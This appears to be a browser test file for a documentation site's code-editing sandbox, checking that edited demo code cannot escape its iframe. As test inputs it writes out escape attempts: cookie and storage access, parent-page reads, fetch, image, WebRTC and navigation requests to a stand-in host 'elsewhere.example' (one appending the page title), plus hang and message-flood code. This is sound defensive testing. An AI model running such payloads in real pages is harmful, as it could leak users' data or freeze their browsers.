// Edited code runs in a frame that lets nothing out.
import { beforeAll, describe, expect, inject, test } from 'vitest';
import { reader, useBrowser, type Visit } from './browser';
import { editing, effect } from './editor';
import { hangs, nativeHangs, offerCode, program } from './hangs';

useBrowser({ windows: true, own: true });
const site = inject('walls');
/** Opens the code of a demo on a page that loads fast. */
const edit = (visit?: Visit) => editing(visit, `${site}/material-ui/react-strategies/`, 'OnInteraction');

describe('nothing gets out', () => {
  for (const [what, code] of [
    ['cookies', 'document.cookie = "a=b"; setSaid("got " + document.cookie)'],
    ['storage', 'localStorage.setItem("a", "b"); setSaid("got in")'],
    ['the page around it', 'setSaid(parent.document.title)'],
    ['the network', 'await fetch("https://elsewhere.example/"); setSaid("got out")'],
    ['the own server', `await fetch("${site}/llms.txt"); setSaid("got out")`],
    [
      'a picture',
      'await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "https://elsewhere.example/a.png"; }); setSaid("got out")',
    ],
    [
      'a worker, which no guard ends',
      'const u = URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" })); await new Promise((yes, no) => { const w = new Worker(u); w.onmessage = yes; w.onerror = no; }); setSaid("got a thread")',
    ],
    [
      'peer connections',
      'const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:elsewhere.example" }] }); c.createDataChannel("a"); await c.setLocalDescription(await c.createOffer()); setSaid("got out")',
    ],
  ] as const) {
    test(what, async () => {
      const { page, area, frame } = await edit();
      const asked: string[] = [];
      await page
        .context()
        .route(/elsewhere|llms/, (route) => (asked.push(route.request().url()), route.fulfill({ body: 'got out' })));
      await area.fill(effect(code));
      await frame
        .locator('#said')
        .getByText(/refused|got/)
        .waitFor();
      const said = await frame.locator('#said').innerText();
      expect(said).not.toMatch(/^got/);
      expect(asked).toEqual([]);
    });
  }

  test('navigation: neither of the page around it nor of the frame to elsewhere', async () => {
    const { page, area, trouble } = await edit();
    const asked: string[] = [];
    await page
      .context()
      .route(/elsewhere/, (route) => (asked.push(route.request().url()), route.fulfill({ body: 'got out' })));
    await area.fill(
      effect(
        'try { top.location.href = "https://elsewhere.example/top"; } catch {} location.href = "https://elsewhere.example/frame?" + document.title;',
      ),
    );
    for (const refusal of ['Unsafe attempt to initiate navigation', "Framing 'https://elsewhere.example/' violates"]) {
      await expect.poll(() => trouble.filter((line) => line.includes(refusal))).not.toEqual([]);
    }
    expect(page.url()).toContain('/material-ui/react-strategies/');
    expect(asked).toEqual([]);
  });

  describe('code that does not let go is stopped; the page lives, and a reset is at hand', () => {
    let visit: Visit; // one for all: the page is opened anew for each
    beforeAll(async () => {
      visit = await reader();
    });
    for (const [what, code] of [...hangs, ...nativeHangs]) {
      test(what, async () => {
        const { page, exhibit, area, alert } = await edit(visit);
        await area.fill(program(`  ${code}\n  return null;`));
        await alert.getByText('was stopped').waitFor();
        await page.locator('#WhenIdle [data-tool=code]').click();
        await page.locator('#WhenIdle .code').getByText('export default').first().waitFor();
        await exhibit.getByRole('button', { name: 'Undo all edits' }).click();
        await exhibit.locator('.demo:visible').waitFor();
      });
    }
  });

  test('code that the compiler would read for hours is refused at its line, and the page answers', async () => {
    const { page, area, alert } = await edit();
    await area.fill(`\nexport const z = ${'(a = '.repeat(40)}1${') => 1'.repeat(40)};\n`);
    await alert.getByText('nested too deep').waitFor();
    expect(await alert.getAttribute('data-line')).toBe('2');
    expect(await page.locator('iframe.sandbox').count()).toBe(0);
  });

  test('messages without shape, without end or in a flood leave the page as it was', async () => {
    const { page, area, frame, alert } = await edit();
    const send = (code: string) =>
      area.fill(program(`  React.useEffect(() => { ${code} }, []);\n  return <p>sent</p>;`));
    await send(
      "for (const odd of [null, 1, 'pong', [], { kind: 'closed' }, { kind: 'sized', height: NaN }]) parent.postMessage(odd, '*');",
    );
    await frame.getByText('sent').waitFor();
    // A thousand times what is shown; what takes longer to read ends the frame.
    // The page's first question comes when the code runs.
    const long = "parent.postMessage({ kind: 'failed', message: 'x'.repeat(1 << 20) }, '*')";
    await send(`addEventListener('message', () => ${long}, { once: true });`);
    await alert.getByText('The demo reports: xxx').waitFor();
    expect((await alert.innerText()).length).toBeLessThan(1100);
    await send("for (let i = 0; i < 20000; i++) parent.postMessage({ kind: 'sized', height: i }, '*');");
    await alert.getByText('too many messages').waitFor();
    expect(await page.locator('iframe.sandbox').count()).toBe(0);
  });

  test('messages that take long to read end the frame, and the page answers', async () => {
    const { page, exhibit, area, alert } = await edit();
    await area.fill(
      program(
        "  React.useEffect(() => { setInterval(() => parent.postMessage({ kind: 'failed', message: 'x'.repeat(5e7) }, '*'), 50); }, []);\n  return null;",
      ),
    );
    await alert.getByText('too many messages').waitFor();
    expect(await page.locator('iframe.sandbox').count()).toBe(0);
    await exhibit.getByRole('button', { name: 'Undo all edits' }).click();
    await exhibit.locator('.demo:visible').waitFor();
  });

  test('the frame runs nothing where it has an origin, whichever page frames it', async () => {
    const { page } = await reader();
    await page.goto(`${site}/sandbox/`);
    await page.getByText('Edited demos run here').waitFor();
    await page.goto(`${site}/material-ui/react-prose/`);
    const [text, ...answers] = await page.evaluate(offerCode);
    expect(text).toContain('Edited demos run here');
    expect(answers).toEqual(['asked']);
  });
});
